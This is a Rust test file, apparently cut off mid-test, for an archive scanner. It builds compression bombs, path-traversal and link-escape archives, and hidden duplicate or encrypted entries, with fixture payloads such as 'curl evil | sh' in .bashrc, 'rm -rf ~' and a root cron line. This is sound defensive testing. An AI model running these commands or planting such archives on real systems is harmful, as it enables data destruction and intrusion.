//! Hostile archives, each built here with the real writer of its format (or by byte-level
//! surgery where the writer refuses): every one becomes the right finding, errors name the
//! artifact, and the rest of the archive is still read.

mod common;

use common::{Raw, assert_errors_name, file, finding, gzip, paths, raw_tar, rules, tar_gz, zip};
use palisade_archive::{Limits, Unpacked, unpack_bytes};
use std::io::Write;
use std::time::{Duration, Instant};
use tar::EntryType;

const GIB: u64 = 1024 * 1024 * 1024;
const MIB: usize = 1024 * 1024;

/// Level 2 deflates zeros as tightly as level 9 (about 1030:1) in a seventh of the time.
const BOMB_LEVEL: flate2::Compression = flate2::Compression::new(2);

/// Streams `total` zero bytes through `writer`, 1 MiB at a time, so that building a
/// bomb never holds its expanded size in memory.
fn write_zeros(writer: &mut impl Write, total: u64) {
    let chunk = vec![0u8; MIB];
    let mut left = total;
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        writer.write_all(&chunk[..n]).unwrap();
        left -= n as u64;
    }
}

/// One gzip member of `total` zeros, compressed as it is produced.
fn gzip_zeros(total: u64) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), BOMB_LEVEL);
    write_zeros(&mut encoder, total);
    encoder.finish().unwrap()
}

fn unpack(name: &str, data: &[u8]) -> Unpacked {
    unpack_bytes(name, data, &Limits::default())
}

// ---------------------------------------------------------------- compression bombs

#[test]
fn gzip_bomb_of_one_gib_stops_at_the_ratio_limit() {
    let started = Instant::now();
    let bomb = gzip_zeros(GIB);
    let built = started.elapsed();
    assert!(bomb.len() < 2 * MIB, "bomb is {} bytes", bomb.len());

    let started = Instant::now();
    let out = unpack("zeros.gz", &bomb);
    let unpacked_in = started.elapsed();
    let bomb_finding = finding(&out, "archive/compression-bomb", "zeros.gz");
    assert!(
        bomb_finding.message.contains("200x"),
        "{}",
        bomb_finding.message
    );
    // Reading stopped near 200 times what was consumed: far below the 1 GiB inside.
    assert!(
        out.unpacked_bytes < 64 * MIB as u64,
        "unpacked {} bytes",
        out.unpacked_bytes
    );
    let kept: usize = out.files.iter().map(|f| f.data.len()).sum();
    assert!(kept as u64 <= out.unpacked_bytes);
    assert!(
        unpacked_in < Duration::from_secs(1),
        "built in {built:?}, unpacked in {unpacked_in:?}"
    );
}

#[test]
fn tar_gz_bomb_entry_is_a_compression_bomb() {
    // A tarball holding one 1 GiB file of zeros, streamed through the real tar and gzip
    // writers: the tar header declares the true size.
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), BOMB_LEVEL);
    let mut header = tar::Header::new_gnu();
    header.set_path("pkg/zeros.bin").unwrap();
    header.set_size(GIB);
    header.set_mode(0o644);
    header.set_cksum();
    encoder.write_all(header.as_bytes()).unwrap();
    write_zeros(&mut encoder, GIB + 1024);
    let bomb = encoder.finish().unwrap();

    let out = unpack("bomb.tgz", &bomb);
    assert!(
        rules(&out).contains(&"archive/compression-bomb"),
        "{:#?}",
        out.findings
    );
    // The entry itself is also over the per-entry size limit, and is never held.
    finding(&out, "archive/limit-exceeded", "pkg/zeros.bin");
    assert!(out.files.is_empty(), "{:?}", paths(&out));
    assert!(out.unpacked_bytes < 64 * MIB as u64);
}

fn zip_with_zeros(name: &str, zeros: u64, also: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(2))
        .large_file(zeros > u64::from(u32::MAX));
    for (other, data) in also {
        writer.start_file(*other, options).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.start_file(name, options).unwrap();
    write_zeros(&mut writer, zeros);
    writer.finish().unwrap().into_inner()
}

#[test]
fn zip_bomb_entry_within_the_entry_size_limit() {
    // 48 MiB of zeros deflate to about 48 KB: a ratio near 1000.
    let bomb = zip_with_zeros("zeros.bin", 48 * MIB as u64, &[("README", b"hello\n")]);
    assert!(bomb.len() < 256 * 1024, "{}", bomb.len());
    let out = unpack("bomb.zip", &bomb);
    finding(&out, "archive/compression-bomb", "zeros.bin");
    assert_eq!(paths(&out), ["README"]);
    assert!(out.unpacked_bytes < 48 * MIB as u64);
}

#[test]
fn zip_bomb_entry_larger_than_the_entry_size_limit() {
    // 256 MiB of zeros: over the 64 MiB entry limit *and* an obvious bomb from the sizes
    // its headers declare. The bomb is the finding that matters.
    let bomb = zip_with_zeros("zeros.bin", 256 * MIB as u64, &[("README", b"hello\n")]);
    let out = unpack("bomb.zip", &bomb);
    finding(&out, "archive/compression-bomb", "zeros.bin");
    assert_eq!(paths(&out), ["README"]);
    assert!(out.unpacked_bytes < 1024, "{}", out.unpacked_bytes);
}

// ---------------------------------------------------------- traversal and absolute paths

#[test]
fn tar_entries_climbing_out_or_absolute() {
    let data = raw_tar(&[
        Raw::file(b"package/index.js", b"ok()\n"),
        Raw::file(b"package/../../.bashrc", b"curl evil | sh\n"),
        Raw::file(b"../escape.sh", b"rm -rf ~\n"),
        Raw::file(b"/etc/cron.d/job", b"* * * * * root sh\n"),
        Raw::file(b"package/..foo/fine.js", b"fine()\n"),
        Raw::file(b"package/last.js", b"last()\n"),
    ]);
    let out = unpack("evil.tar", &data);
    finding(&out, "archive/path-traversal", "package/../../.bashrc");
    finding(&out, "archive/path-traversal", "../escape.sh");
    finding(&out, "archive/absolute-path", "/etc/cron.d/job");
    assert_eq!(
        rules(&out),
        [
            "archive/path-traversal",
            "archive/path-traversal",
            "archive/absolute-path"
        ]
    );
    // Nothing is written anywhere; every file, hostile names included, is analysed.
    assert_eq!(out.files.len(), 6);
    assert_eq!(file(&out, "package/last.js"), b"last()\n");
    assert_eq!(file(&out, "/etc/cron.d/job"), b"* * * * * root sh\n");
    assert!(out.errors.is_empty(), "{:?}", out.errors);
}

#[test]
fn tar_gz_traversal_with_windows_separators() {
    let data = gzip(&raw_tar(&[
        Raw::file(b"package\\..\\..\\evil.bat", b"del /q *\n"),
        Raw::file(b"C:\\Users\\Public\\evil.exe", b"MZ"),
        Raw::file(b"package/ok.js", b"ok\n"),
    ]));
    let out = unpack("evil.tgz", &data);
    finding(&out, "archive/path-traversal", "package/../../evil.bat");
    finding(&out, "archive/absolute-path", "C:/Users/Public/evil.exe");
    assert_eq!(file(&out, "package/ok.js"), b"ok\n");
}

#[test]
fn zip_entries_climbing_out_or_absolute() {
    let data = zip(&[
        ("pkg/ok.py", b"print('ok')\n"),
        ("../../evil.py", b"import os\n"),
        ("/etc/passwd", b"root:x:0:0\n"),
        ("pkg/after.py", b"print('after')\n"),
    ]);
    let out = unpack("evil.whl", &data);
    finding(&out, "archive/path-traversal", "../../evil.py");
    finding(&out, "archive/absolute-path", "/etc/passwd");
    assert_eq!(out.findings.len(), 2, "{:#?}", out.findings);
    assert_eq!(file(&out, "pkg/after.py"), b"print('after')\n");
    assert_eq!(out.files.len(), 4);
}

// ------------------------------------------------------------------------------- links

#[test]
fn tar_symlinks_and_hard_links() {
    let data = gzip(&raw_tar(&[
        Raw::file(b"package/index.js", b"require('./x')\n"),
        Raw::link(b"package/x", EntryType::Symlink, b"../../etc/passwd"),
        Raw::link(b"package/y", EntryType::Symlink, b"/etc/passwd"),
        Raw::link(b"package/docs/README", EntryType::Symlink, b"../README.md"),
        Raw::link(b"package/copy.js", EntryType::Link, b"package/index.js"),
        // A hard link names another entry from the archive root, not from its folder:
        // `../outside` is outside whatever folder the archive is extracted into.
        Raw::link(b"package/lib/deep/h", EntryType::Link, b"../outside"),
        Raw::file(b"package/README.md", b"# readme\n"),
    ]));
    let out = unpack("links.tgz", &data);
    let escape = finding(&out, "archive/link-escape", "package/x");
    assert_eq!(
        escape.snippet.as_deref(),
        Some("package/x -> ../../etc/passwd")
    );
    finding(&out, "archive/link-escape", "package/y");
    finding(&out, "archive/link", "package/docs/README");
    let hard = finding(&out, "archive/link", "package/copy.js");
    assert!(hard.message.contains("hard link"), "{}", hard.message);
    let hard_out = finding(&out, "archive/link-escape", "package/lib/deep/h");
    assert!(
        hard_out.message.contains("hard link"),
        "{}",
        hard_out.message
    );
    assert_eq!(out.findings.len(), 5, "{:#?}", out.findings);
    // Links are never followed and never become files; the real files are all read.
    assert_eq!(paths(&out), ["package/index.js", "package/README.md"]);
    assert!(out.errors.is_empty());
}

#[test]
fn link_escapes_are_judged_inside_a_nested_archive() {
    // `x -> ../etc` escapes the inner archive's own root even though the inner archive
    // itself sits inside a folder of the outer one.
    let inner = raw_tar(&[
        Raw::link(b"x", EntryType::Symlink, b"../etc/passwd"),
        Raw::file(b"ok.txt", b"ok\n"),
    ]);
    let outer = tar_gz(&[("pkg/inner.tar", &inner)]);
    let out = unpack("outer.tgz", &outer);
    let escape = finding(&out, "archive/link-escape", "pkg/inner.tar!/x");
    // Installers never extract a nested archive: the escape weighs low and says where.
    assert_eq!(escape.severity, palisade_core::Severity::Low);
    assert!(
        escape.message.contains("nested archive"),
        "{}",
        escape.message
    );
    assert_eq!(paths(&out), ["pkg/inner.tar!/ok.txt"]);
}

#[test]
fn escaping_names_inside_a_nested_archive_weigh_low_and_outside_high() {
    let inner = raw_tar(&[Raw::file(b"../file4.txt", b"x\n")]);
    let outer = raw_tar(&[
        Raw::file(b"pkg/tests/bad.tar", &inner),
        Raw::file(b"../escape.sh", b"rm -rf ~\n"),
    ]);
    let out = unpack("outer.tar", &outer);
    let nested = finding(
        &out,
        "archive/path-traversal",
        "pkg/tests/bad.tar!/../file4.txt",
    );
    assert_eq!(nested.severity, palisade_core::Severity::Low);
    let outside = finding(&out, "archive/path-traversal", "../escape.sh");
    assert_eq!(outside.severity, palisade_core::Severity::High);
}

#[test]
fn zip_symlinks() {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    writer.start_file("pkg/a.py", options).unwrap();
    writer.write_all(b"a = 1\n").unwrap();
    writer
        .add_symlink("pkg/x", "../../etc/passwd", options)
        .unwrap();
    writer.add_symlink("pkg/y", "/etc/passwd", options).unwrap();
    writer.add_symlink("pkg/z", "a.py", options).unwrap();
    writer.start_file("pkg/b.py", options).unwrap();
    writer.write_all(b"b = 2\n").unwrap();
    let data = writer.finish().unwrap().into_inner();

    let out = unpack("links.zip", &data);
    let escape = finding(&out, "archive/link-escape", "pkg/x");
    assert_eq!(escape.snippet.as_deref(), Some("pkg/x -> ../../etc/passwd"));
    finding(&out, "archive/link-escape", "pkg/y");
    finding(&out, "archive/link", "pkg/z");
    assert_eq!(out.findings.len(), 3, "{:#?}", out.findings);
    assert_eq!(paths(&out), ["pkg/a.py", "pkg/b.py"]);
}

#[test]
fn special_files_in_a_tar() {
    let mut fifo = Raw::file(b"package/pipe", b"");
    fifo.kind = EntryType::Fifo;
    let mut device = Raw::file(b"package/sda", b"");
    device.kind = EntryType::Block;
    let data = raw_tar(&[fifo, device, Raw::file(b"package/ok", b"ok")]);
    let out = unpack("special.tar", &data);
    finding(&out, "archive/special-file", "package/pipe");
    finding(&out, "archive/special-file", "package/sda");
    assert_eq!(paths(&out), ["package/ok"]);
}

// ----------------------------------------------------------------------------- nesting

/// `levels` tarballs, each holding the one before; the innermost holds `payload.txt`.
fn nested_tar_gz(levels: u32) -> Vec<u8> {
    let mut data = tar_gz(&[("payload.txt", b"deep inside\n")]);
    for level in 1..levels {
        data = tar_gz(&[(&format!("level{level}.tar.gz"), &data)]);
    }
    data
}

#[test]
fn twenty_levels_of_nesting_stop_at_the_depth_limit() {
    let data = nested_tar_gz(20);
    let out = unpack("nested.tar.gz", &data);
    let deepest = "level19.tar.gz!/level18.tar.gz!/level17.tar.gz!/level16.tar.gz!/level15.tar.gz";
    let nesting = finding(&out, "archive/nesting-too-deep", deepest);
    assert!(nesting.message.contains("4 levels"), "{}", nesting.message);
    assert_eq!(rules(&out), ["archive/nesting-too-deep"]);
    // The archive past the limit is kept whole, as an opaque file.
    assert_eq!(paths(&out), [deepest]);
    assert!(out.errors.is_empty(), "{:?}", out.errors);
}

#[test]
fn twenty_levels_open_fully_when_the_limit_allows_without_overflowing_the_stack() {
    let data = nested_tar_gz(20);
    let limits = Limits {
        max_depth: 64,
        ..Limits::default()
    };
    // Run on a thread with a small stack: 20 levels must not need much.
    let out = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(move || unpack_bytes("nested.tar.gz", &data, &limits))
        .unwrap()
        .join()
        .unwrap();
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert_eq!(out.files.len(), 1);
    let path = &out.files[0].path;
    assert_eq!(path.matches("!/").count(), 19, "{path}");
    assert!(path.ends_with("level1.tar.gz!/payload.txt"), "{path}");
    assert_eq!(out.files[0].data, b"deep inside\n");
}

#[test]
fn nesting_mixes_zip_and_tar() {
    let mut data = zip(&[("payload.txt", b"x")]);
    for level in 1..10 {
        data = if level % 2 == 1 {
            tar_gz(&[(&format!("l{level}.zip"), &data)])
        } else {
            zip(&[(&format!("l{level}.tgz"), &data)])
        };
    }
    let out = unpack("mixed.zip", &data);
    assert_eq!(rules(&out), ["archive/nesting-too-deep"]);
    assert_eq!(out.files.len(), 1);
}

// ------------------------------------------------------------------- corrupt streams

#[test]
fn tar_header_declaring_more_data_than_there_is() {
    let mut lying = Raw::file(b"package/big.js", b"only a little data\n");
    lying.declared = Some(1_000_000);
    let mut data = raw_tar(&[Raw::file(b"package/first.js", b"first\n"), lying]);
    data.truncate(512 * 4); // the end blocks are gone too, as in a cut download
    for (name, bytes) in [("lying.tar", data.clone()), ("lying.tgz", gzip(&data))] {
        let out = unpack(name, &bytes);
        assert!(
            rules(&out).contains(&"archive/corrupt"),
            "{name}: {:#?}",
            out.findings
        );
        let corrupt = out
            .findings
            .iter()
            .find(|f| f.rule == "archive/corrupt")
            .unwrap();
        assert!(corrupt.message.contains("truncated"), "{}", corrupt.message);
        assert_errors_name(&out, name);
        assert!(
            out.errors.iter().any(|e| e.contains("package/big.js")),
            "{:?}",
            out.errors
        );
        assert_eq!(file(&out, "package/first.js"), b"first\n");
        // The cut entry is not passed on as if it were whole.
        assert_eq!(paths(&out), ["package/first.js"], "{name}");
    }
}

#[test]
fn truncated_tar_gz_keeps_the_entries_before_the_cut() {
    // Incompressible content, so that the cut falls inside the stream of the last file.
    let mut noise = Vec::with_capacity(64 * 1024);
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    while noise.len() < 64 * 1024 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        noise.extend_from_slice(&state.to_le_bytes());
    }
    let data = tar_gz(&[
        ("package/a.js", b"a()\n"),
        ("package/b.js", b"b()\n"),
        ("package/blob.bin", &noise),
    ]);
    let half = &data[..data.len() / 2];
    let out = unpack("cut.tgz", half);
    let corrupt = finding(&out, "archive/corrupt", "package/blob.bin");
    assert_eq!(corrupt.message, "truncated tar stream");
    assert_errors_name(&out, "cut.tgz");
    assert_eq!(
        out.errors,
        ["cut.tgz: package/blob.bin: truncated tar stream"]
    );
    assert_eq!(paths(&out), ["package/a.js", "package/b.js"]);
}

#[test]
fn truncated_single_gzip_file() {
    let text = b"line of text\n".repeat(10_000);
    let data = gzip(&text);
    let out = unpack("notes.txt.gz", &data[..data.len() - 20]);
    finding(&out, "archive/corrupt", "notes.txt.gz");
    assert_errors_name(&out, "notes.txt.gz");
}

#[test]
fn corrupt_deflate_data_in_one_zip_entry_leaves_the_others_readable() {
    let noise: Vec<u8> = (0..4096u32).map(|i| (i * 7919 % 251) as u8).collect();
    let mut data = zip(&[
        ("a.txt", b"aaaa\n"),
        ("broken.bin", &noise),
        ("c.txt", b"cccc\n"),
    ]);
    // Flip bytes in the middle of broken.bin's compressed data.
    let start = data.windows(10).position(|w| w == b"broken.bin").unwrap() + 10;
    for byte in &mut data[start + 8..start + 40] {
        *byte ^= 0x5a;
    }
    let out = unpack("broken.zip", &data);
    finding(&out, "archive/corrupt", "broken.bin");
    assert_errors_name(&out, "broken.zip");
    assert_eq!(paths(&out), ["a.txt", "c.txt"]);
}

// ------------------------------------------------------------------------------ limits

/// `len` bytes of one line of minified-looking JavaScript: varied enough to compress
/// only as well as real code does (a line of one repeated byte would be a bomb).
fn minified_js(len: usize) -> Vec<u8> {
    const TOKENS: &[&str] = &[
        "function(",
        "){return ",
        "var ",
        "=",
        ";",
        "if(",
        "}else{",
        "typeof ",
        "===",
        "null",
        ".prototype.",
        "this.",
        "[",
        "]",
        ",",
        "&&",
        "||",
        "+",
        "new Error(",
    ];
    let mut out = Vec::with_capacity(len + 64);
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    while out.len() < len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        out.extend_from_slice(TOKENS[(state % TOKENS.len() as u64) as usize].as_bytes());
        // An identifier made of a few pseudo-random letters.
        for shift in 0..(state >> 60) % 4 + 1 {
            out.push(b'a' + ((state >> (8 * shift + 8)) % 26) as u8);
        }
    }
    out.truncate(len);
    out
}

#[test]
fn a_ten_mb_single_line_file_is_read_whole() {
    let line = minified_js(10 * MIB);
    assert!(!line.contains(&b'\n'));
    let data = tar_gz(&[("package/min.js", &line), ("package/after.js", b"x")]);
    let out = unpack("min.tgz", &data);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert_eq!(file(&out, "package/min.js").len(), 10 * MIB);
    assert_eq!(file(&out, "package/after.js"), b"x");

    let limits = Limits {
        max_entry_bytes: MIB as u64,
        ..Limits::default()
    };
    let out = unpack_bytes("min.tgz", &data, &limits);
    let limit = finding(&out, "archive/limit-exceeded", "package/min.js");
    assert!(
        limit.message.contains("size of one entry"),
        "{}",
        limit.message
    );
    // The oversized entry is skipped; the one after it is still read.
    assert_eq!(paths(&out), ["package/after.js"]);

    let out = unpack_bytes("min.zip", &zip(&[("min.js", &line), ("b", b"b")]), &limits);
    finding(&out, "archive/limit-exceeded", "min.js");
    assert_eq!(paths(&out), ["b"]);
}

#[test]
fn entry_count_limit() {
    let names: Vec<String> = (0..10).map(|i| format!("pkg/f{i}.js")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let limits = Limits {
        max_entries: 5,
        ..Limits::default()
    };
    for (name, data) in [("many.tgz", tar_gz(&files)), ("many.zip", zip(&files))] {
        let out = unpack_bytes(name, &data, &limits);
        assert_eq!(rules(&out), ["archive/limit-exceeded"], "{name}");
        assert!(out.findings[0].message.contains("number of entries"));
        assert_eq!(out.files.len(), 5, "{name}");
        assert_eq!(out.files[4].path, "pkg/f4.js");
    }
}

#[test]
fn total_bytes_limit() {
    let chunk = vec![b'z'; 40_000];
    let files = [
        ("pkg/a", chunk.as_slice()),
        ("pkg/b", chunk.as_slice()),
        ("pkg/c", chunk.as_slice()),
    ];
    let limits = Limits {
        max_total_bytes: 100_000,
        ..Limits::default()
    };
    for (name, data) in [("big.tgz", tar_gz(&files)), ("big.zip", zip(&files))] {
        let out = unpack_bytes(name, &data, &limits);
        let limit = out
            .findings
            .iter()
            .find(|f| f.rule == "archive/limit-exceeded")
            .unwrap_or_else(|| panic!("{name}: {:#?}", out.findings));
        assert!(
            limit.message.contains("total unpacked size"),
            "{}",
            limit.message
        );
        assert_eq!(out.files.len(), 2, "{name}: {:?}", paths(&out));
        assert!(
            out.unpacked_bytes <= 100_000 + 64 * 1024,
            "{}",
            out.unpacked_bytes
        );
    }
}

#[test]
fn time_limit() {
    let limits = Limits {
        max_time: Duration::ZERO,
        ..Limits::default()
    };
    let out = unpack_bytes("slow.tgz", &tar_gz(&[("a", b"a")]), &limits);
    assert!(
        rules(&out).contains(&"archive/limit-exceeded"),
        "{:#?}",
        out.findings
    );
    assert!(out.files.is_empty());
}

// ----------------------------------------------------------- names and duplicate entries

#[test]
fn duplicate_tar_entries_are_both_analysed() {
    let data = tar_gz(&[
        ("package/index.js", b"console.log('reviewed')\n"),
        ("package/other.js", b"other\n"),
        ("package/index.js", b"require('child_process').exec('id')\n"),
    ]);
    let out = unpack("dup.tgz", &data);
    assert_eq!(rules(&out), ["archive/duplicate-entry"]);
    finding(&out, "archive/duplicate-entry", "package/index.js");
    let copies: Vec<&[u8]> = out
        .files
        .iter()
        .filter(|f| f.path == "package/index.js")
        .map(|f| f.data.as_slice())
        .collect();
    assert_eq!(copies.len(), 2);
    assert!(copies[1].starts_with(b"require"));
}

#[test]
fn duplicate_zip_entries_are_reported() {
    // The zip writer refuses duplicate names; rename `pkg/b.py` to `pkg/a.py` in both the
    // local header and the central directory.
    let mut data = zip(&[
        ("pkg/a.py", b"print('reviewed')\n"),
        ("pkg/b.py", b"import os; os.system('id')\n"),
    ]);
    let mut renamed = 0;
    for at in 0..data.len() - 8 {
        if &data[at..at + 8] == b"pkg/b.py" {
            data[at + 4] = b'a';
            renamed += 1;
        }
    }
    assert_eq!(renamed, 2);
    let out = unpack("dup.zip", &data);
    assert_eq!(rules(&out), ["archive/duplicate-entry"]);
    finding(&out, "archive/duplicate-entry", "dup.zip");
    // The zip reader keeps one copy per name: the last one in the central directory.
    assert_eq!(paths(&out), ["pkg/a.py"]);
    assert_eq!(file(&out, "pkg/a.py"), b"import os; os.system('id')\n");

    // Inside a nested archive, the finding names the nested zip.
    let outer = tar_gz(&[("pkg/vendor/dup.zip", &data)]);
    let out = unpack("outer.tgz", &outer);
    finding(&out, "archive/duplicate-entry", "pkg/vendor/dup.zip");
}

#[test]
fn non_utf8_names() {
    let tar_data = raw_tar(&[
        Raw::file(b"package/\xff\xfe.js", b"hidden()\n"),
        Raw::file(b"package/ok.js", b"ok\n"),
    ]);
    let out = unpack("names.tar", &tar_data);
    let bad = "package/\u{fffd}\u{fffd}.js";
    finding(&out, "archive/non-utf8-name", bad);
    assert_eq!(file(&out, bad), b"hidden()\n");
    assert_eq!(file(&out, "package/ok.js"), b"ok\n");
    assert_eq!(out.findings.len(), 1);

    // In a zip: write an ASCII placeholder and replace its bytes.
    let mut zip_data = zip(&[("pkg/XX.py", b"hidden()\n"), ("pkg/ok.py", b"ok\n")]);
    let mut replaced = 0;
    for at in 0..zip_data.len() - 9 {
        if &zip_data[at..at + 9] == b"pkg/XX.py" {
            zip_data[at + 4] = 0xff;
            zip_data[at + 5] = 0xfe;
            replaced += 1;
        }
    }
    assert_eq!(replaced, 2);
    let out = unpack("names.zip", &zip_data);
    assert!(
        rules(&out).contains(&"archive/non-utf8-name"),
        "{:#?}",
        out.findings
    );
    assert_eq!(file(&out, "pkg/ok.py"), b"ok\n");
    assert_eq!(out.files.len(), 2);
}

#[test]
fn encrypted_zip_entry() {
    use zip::unstable::write::FileOptionsExt;
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let plain = zip::write::SimpleFileOptions::default();
    writer.start_file("pkg/setup.py", plain).unwrap();
    writer
        .write_all(b"exec(decrypt(open('payload.bin')))\n")
        .unwrap();
    let secret = plain.with_deprecated_encryption(b"hunter2").unwrap();
    writer.start_file("pkg/payload.bin", secret).unwrap();
    writer.write_all(b"import os; os.system('id')\n").unwrap();
    let data = writer.finish().unwrap().into_inner();

    let out = unpack("secret.zip", &data);
    assert_eq!(rules(&out), ["archive/encrypted-entry"]);
    finding(&out, "archive/encrypted-entry", "pkg/payload.bin");
    assert_eq!(paths(&out), ["pkg/setup.py"]);
}

#[test]
fn unreadable_zip_names_the_artifact() {
    let mut data = zip(&[("a", b"a")]);
    let len = data.len();
    data.truncate(len - 10); // the end of central directory record is cut
    let out = unpack("cut.zip", &data);
    assert_eq!(out.format, "unreadable");
    assert_errors_name(&out, "cut.zip");
    assert!(out.files.is_empty());
}

// --------------------------------------------------------- names the ustar field hides

/// A tar entry whose real name comes from an extension record before it: a pax `x`
/// header (`path=...`) or a GNU `L` long-name entry. A scanner that reads only the
/// 100-byte name field sees the innocent name.
fn tar_with_extension_name(kind: EntryType, real_name: &[u8]) -> Vec<u8> {
    let record;
    let (ext_name, ext_data): (&[u8], &[u8]) = if kind == EntryType::XHeader {
        // `LEN path=VALUE\n`, where LEN counts the whole record, its own digits included.
        let body = [b" path=".as_slice(), real_name, b"\n"].concat();
        let mut len = body.len();
        while len != body.len() + len.to_string().len() {
            len = body.len() + len.to_string().len();
        }
        record = [len.to_string().as_bytes(), &body].concat();
        assert_eq!(record.len(), len);
        (b"PaxHeaders/innocent.js", &record)
    } else {
        record = [real_name, b"\0"].concat();
        (b"././@LongLink", &record)
    };
    let mut extension = Raw::file(ext_name, ext_data);
    extension.kind = kind;
    raw_tar(&[
        extension,
        Raw::file(b"package/innocent.js", b"payload()\n"),
        Raw::file(b"package/ok.js", b"ok\n"),
    ])
}

#[test]
fn traversal_hidden_in_a_pax_path_record() {
    let data = gzip(&tar_with_extension_name(
        EntryType::XHeader,
        b"package/../../../home/user/.bashrc",
    ));
    let out = unpack("pax.tgz", &data);
    finding(
        &out,
        "archive/path-traversal",
        "package/../../../home/user/.bashrc",
    );
    assert_eq!(
        paths(&out),
        ["package/../../../home/user/.bashrc", "package/ok.js"]
    );
}

#[test]
fn traversal_hidden_in_a_gnu_long_name() {
    let long = [
        b"package/".as_slice(),
        &[b'd'; 120],
        b"/../../../../etc/profile.d/x.sh",
    ]
    .concat();
    let data = tar_with_extension_name(EntryType::GNULongName, &long);
    let out = unpack("long.tar", &data);
    let name = String::from_utf8(long).unwrap();
    finding(&out, "archive/path-traversal", &name);
    assert_eq!(file(&out, &name), b"payload()\n");
    assert_eq!(file(&out, "package/ok.js"), b"ok\n");
}

// ------------------------------------------------------------------ GNU sparse files

fn octal12(value: u64) -> [u8; 12] {
    let mut field = [0u8; 12];
    field[..11].copy_from_slice(format!("{value:011o}").as_bytes());
    field
}

/// A GNU sparse entry of `real_size` bytes whose only stored data is `data` at `offset`:
/// the rest is holes, which the reader fills with zeros.
fn sparse_entry(name: &str, real_size: u64, offset: u64, data: &[u8]) -> Vec<u8> {
    let mut header = tar::Header::new_gnu();
    header.set_path(name).unwrap();
    header.set_entry_type(EntryType::GNUSparse);
    header.set_mode(0o644);
    header.set_size(data.len() as u64);
    let gnu = header.as_gnu_mut().unwrap();
    gnu.sparse[0].offset = octal12(offset);
    gnu.sparse[0].numbytes = octal12(data.len() as u64);
    if offset + (data.len() as u64) < real_size {
        // A trailing hole is described by an empty block at the end of the file.
        gnu.sparse[1].offset = octal12(real_size);
        gnu.sparse[1].numbytes = octal12(0);
    }
    gnu.realsize = octal12(real_size);
    header.set_cksum();
    let mut out = header.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

fn sparse_tar(entries: &[Vec<u8>], then: &[Raw<'_>]) -> Vec<u8> {
    let mut out = entries.concat();
    out.extend(raw_tar(then));
    out
}

#[test]
fn an_honest_sparse_file_is_read_with_its_holes() {
    let data = sparse_tar(
        &[sparse_entry("pkg/sparse.db", 5000, 4096, b"tail data")],
        &[Raw::file(b"pkg/after", b"after\n")],
    );
    let out = unpack("sparse.tar", &data);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    let sparse = file(&out, "pkg/sparse.db");
    assert_eq!(sparse.len(), 5000);
    assert!(sparse[..4096].iter().all(|&b| b == 0));
    assert_eq!(&sparse[4096..4105], b"tail data");
    assert_eq!(file(&out, "pkg/after"), b"after\n");
}

#[test]
fn sparse_holes_count_as_a_compression_bomb() {
    // Each 512-byte header claims 48 MiB of holes: no decompressor is involved, the tar
    // reader makes the zeros up itself.
    let entries: Vec<Vec<u8>> = (0..3)
        .map(|i| {
            sparse_entry(
                &format!("pkg/hole{i}"),
                48 * MIB as u64,
                48 * MIB as u64,
                b"",
            )
        })
        .collect();
    let data = sparse_tar(&entries, &[Raw::file(b"pkg/real.js", b"real()\n")]);
    let out = unpack("holes.tar", &data);
    for i in 0..3 {
        finding(&out, "archive/compression-bomb", &format!("pkg/hole{i}"));
    }
    assert_eq!(paths(&out), ["pkg/real.js"]);
    let kept: usize = out.files.iter().map(|f| f.data.len()).sum();
    assert!(kept < 1024, "{kept} bytes kept");
}

#[test]
fn sparse_holes_count_towards_the_total_bytes_limit() {
    // Below the ratio floor, each entry is plausible; together they break the total.
    let entries: Vec<Vec<u8>> = (0..8)
        .map(|i| sparse_entry(&format!("pkg/hole{i}"), 256 * 1024, 256 * 1024, b""))
        .collect();
    let data = sparse_tar(&entries, &[]);
    let limits = Limits {
        max_total_bytes: MIB as u64,
        ..Limits::default()
    };
    let out = unpack_bytes("holes.tar", &data, &limits);
    let limit = out
        .findings
        .iter()
        .find(|f| f.rule == "archive/limit-exceeded")
        .unwrap_or_else(|| panic!("{:#?}", out.findings));
    assert!(
        limit.message.contains("total unpacked size"),
        "{}",
        limit.message
    );
    let kept: u64 = out.files.iter().map(|f| f.data.len() as u64).sum();
    assert!(kept <= MIB as u64, "{kept} bytes kept");
    assert!(out.unpacked_bytes > MIB as u64, "{}", out.unpacked_bytes);
}

// ----------------------------------------------------------------- zip sizes that lie

#[test]
fn zip_bomb_whose_headers_understate_its_size() {
    // 48 MiB of zeros, with the uncompressed size rewritten to 100 bytes in the local
    // header and the central directory: the declared sizes look innocent.
    let mut data = zip_with_zeros("zeros.bin", 48 * MIB as u64, &[("README", b"hello\n")]);
    let real_size = (48 * MIB as u32).to_le_bytes();
    let mut patched = 0;
    for at in 0..data.len() - 4 {
        if data[at..at + 4] == real_size {
            data[at..at + 4].copy_from_slice(&100u32.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2);
    let out = unpack("liar.zip", &data);
    // Either the ratio check or the zip reader's own size check stops it early.
    let stop = out
        .findings
        .iter()
        .find(|f| f.path.as_deref() == Some("zeros.bin"))
        .unwrap_or_else(|| panic!("{:#?}", out.findings));
    assert!(
        stop.rule == "archive/compression-bomb" || stop.rule == "archive/corrupt",
        "{stop:?}"
    );
